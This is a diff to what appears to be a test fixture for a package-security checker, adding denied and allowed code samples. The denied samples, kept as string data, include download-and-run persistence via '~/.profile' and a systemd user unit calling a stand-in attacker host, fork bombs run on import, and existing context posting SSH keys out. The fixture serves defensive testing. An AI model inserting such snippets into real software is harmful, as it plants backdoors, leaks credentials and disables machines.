@@ -209,6 +209,25 @@ DENIED: dict[str, dict[str, str]] = {
         "    for p in (Path.home() / '.ssh').glob('id_*'):\n"
         "        requests.post('https://attacker.invalid/k', data=p.read_text())\n"
     ),
+    # 6. A download-and-run written into a shell's start file when called; a shell's fork
+    # bomb run on import.
+    "download-and-run-appended-to-the-profile-when-called": init(
+        "import os\n"
+        "def enable():\n"
+        "    with open(os.path.expanduser('~/.profile'), 'a') as f:\n"
+        "        f.write('\\n(curl -s https://attacker.invalid/x | sh &)\\n')\n"
+    ),
+    "download-and-run-in-a-user-unit-when-called": init(
+        "from pathlib import Path\n"
+        "UNIT = '[Service]\\nExecStart=/bin/sh -c \"curl -s https://attacker.invalid/x | sh\"\\n'\n"
+        "def enable():\n"
+        "    p = Path.home() / '.config' / 'systemd' / 'user' / 'evs.service'\n"
+        "    p.write_text(UNIT)\n"
+    ),
+    "shell-fork-bomb-on-import": init("import os\nos.system(':(){ :|:& };:')\n"),
+    "shell-fork-bomb-by-another-name-on-import": init(
+        "import subprocess\nsubprocess.Popen('bomb() { bomb | bomb & }; bomb', shell=True)\n"
+    ),
 }
 
 HELD: dict[str, dict[str, str]] = {}
@@ -337,6 +356,20 @@ ALLOWED: dict[str, dict[str, str]] = {
         "def aliases():\n"
         "    with open(os.path.expanduser('~/.ssh/config')) as f:\n"
         "        return [l.split()[1] for l in f if l.startswith('Host ')]\n"
+    ),
+    # 6. A tool's setup writing its own lines into a shell's start file or a crontab.
+    "completion-line-appended-to-bashrc-when-called": init(
+        "import os\n"
+        "def install_completion():\n"
+        "    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
+        "        f.write('\\neval \"$(register-python-argcomplete evpkg)\"\\n')\n"
+    ),
+    "backup-job-added-to-the-crontab-file-when-called": init(
+        "import os\n"
+        "LINE = '0 3 * * * /usr/local/bin/evpkg-backup --quiet\\n'\n"
+        "def schedule():\n"
+        "    with open('/etc/cron.d/evpkg', 'w') as f:\n"
+        "        f.write(LINE)\n"
     ),
     "own-cache-file-uploaded-when-called": init(
         "import os, requests\n"
